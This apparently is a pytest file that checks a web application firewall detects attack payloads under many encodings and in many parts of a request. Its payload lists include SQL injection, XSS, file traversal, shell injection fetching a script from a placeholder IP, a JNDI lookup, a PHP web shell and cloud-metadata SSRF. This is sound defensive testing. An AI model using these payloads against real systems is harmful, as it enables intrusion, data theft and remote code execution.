"""Payloads of every class, in every encoding, in every part of a subrequest."""

import base64
import html
import json
from collections import Counter
from urllib.parse import quote

import pytest

from gatewall.engine.waf.judge import Judge
from tests.support.cast import a_request

PAYLOADS = {
    "sqli": [
        "' or 1=1-- -",
        "1 union select null,password from users",
        "1; drop table users",
        "1' and sleep(5)#",
        '" or ""="',
        "1) or (1=1",
        "admin'--",
        "1 and (select count(*) from information_schema.tables)>0",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.domain)>",
        '"><svg/onload=prompt(1)>',
        "javascript:alert(document.cookie)",
        "<iframe src=javascript:alert(1)>",
        "'-alert(1)-'",
        '<a href="javascript:confirm`1`">x</a>',
        "<body onpageshow=alert(1)>",
    ],
    "traversal": ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd"],
    "rce": [
        ";cat /etc/passwd",
        "|id",
        "$(whoami)",
        "`uname -a`",
        "& ping -n 3 127.0.0.1",
        "() { :;}; /bin/bash -c 'id'",
        "1|powershell -enc AAAA",
        ";wget http://192.0.2.1/x.sh",
    ],
    "injection": [
        "${jndi:ldap://192.0.2.1/a}",
        "<?php system($_GET['c']);?>",
        "{{7*7}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "__import__('os').popen('id').read()",
        "*)(uid=*))(|(uid=*",
        "' or count(/child::node())=1 or ''='",
        '<!--#exec cmd="id"-->',
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    ],
    "ssrf": ["http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_INFO"],
}  # fmt: skip


def url(text):
    return "".join(f"%{byte:02x}" for byte in text.encode())


ENCODERS = {
    "plain": lambda text: text,
    "url": url,
    "double url": lambda text: url(url(text)),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64 without padding": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "unicode escapes": lambda text: "".join(f"\\u{ord(each):04x}" for each in text),
    "hex escapes": lambda text: "".join(f"\\x{ord(each):02x}" for each in text),
    "html entities": lambda text: "".join(f"&#{ord(each)};" for each in text),
    "html entities in hex": lambda text: "".join(f"&#x{ord(each):x};" for each in text),
    "html names": html.escape,
    "%u": lambda text: "".join(f"%u{ord(each):04x}" for each in text),
}


def in_uri(text):
    """Return the text as a client sends it: characters not allowed in a URL are encoded, the encoder's are kept."""
    return quote(text, safe="%")


PLACES = {
    "argument": lambda text: {"uri": f"/?lang=en&q={in_uri(text)}"},
    "argument's name": lambda text: {"uri": f"/?{in_uri(text).replace('=', '%3d')}=1"},
    "path": lambda text: {"uri": f"/shop/{in_uri(text)}"},
    "header": lambda text: {"headers": {"x-api-version": text}},
    "cookie": lambda text: {"cookies": {"prefs": text}},
    "JSON in an argument": lambda text: {"uri": f"/?q={quote(json.dumps({'a': [{'b': text}]}))}"},
}
JUDGE = Judge(None)


def missed(encoder, place):
    wrap, put = ENCODERS[encoder], PLACES[place]
    return [
        (kind, payload)
        for kind, payloads in PAYLOADS.items()
        for payload in payloads
        if not JUDGE.refusing(a_request(**put(wrap(payload))))
    ]


COUNT = sum(map(len, PAYLOADS.values()))


@pytest.mark.no_cover
def test_most_encoded_attacks_are_found():
    table = {(encoder, place): missed(encoder, place) for encoder in ENCODERS for place in PLACES}
    found = sum(COUNT - len(each) for each in table.values()) / (COUNT * len(table))
    worst = Counter({key: len(each) for key, each in table.items()}).most_common(8)

    assert found >= 0.88, worst


@pytest.mark.no_cover
@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("encoder", ["url", "double url"])
def test_percent_encoding_hides_nothing(encoder, place):
    plain = {payload for _, payload in missed("plain", place)}

    assert {payload for _, payload in missed(encoder, place)} <= plain


@pytest.mark.parametrize("encoder", ENCODERS)
def test_harmless_texts_are_let_in_in_every_encoding(encoder):
    texts = [
        "a walk in the park",
        "O'Neil & sons",
        "price > 10 and < 20",
        "select a colour from the list",
        "100% cotton",
    ]
    refused = [
        (text, place)
        for text in texts
        for place in PLACES
        if JUDGE.refusing(a_request(**PLACES[place](ENCODERS[encoder](text))))
    ]

    assert refused == []
